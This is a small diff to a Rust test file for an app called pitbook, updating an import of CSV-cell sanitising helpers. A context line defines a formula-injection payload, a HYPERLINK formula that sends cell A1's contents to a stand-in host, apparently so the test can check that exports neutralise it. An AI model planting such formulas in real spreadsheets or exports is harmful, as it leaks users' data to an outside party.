@@ -8,7 +8,7 @@ use std::process::Command;
 
 use common::browser::Browser;
 use common::{Backend, TEST_KEY_HEX, spawn_app};
-use pitbook::domain::csv_cell::{FORMULA_STARTS, is_plain_decimal};
+use pitbook::domain::common::csv_cell::{FORMULA_STARTS, is_plain_decimal};
 
 const BIN: &str = env!("CARGO_BIN_EXE_pitbook");
 const FORMULA: &str = r#"=HYPERLINK("http://x.example/?"&A1,"x")"#;
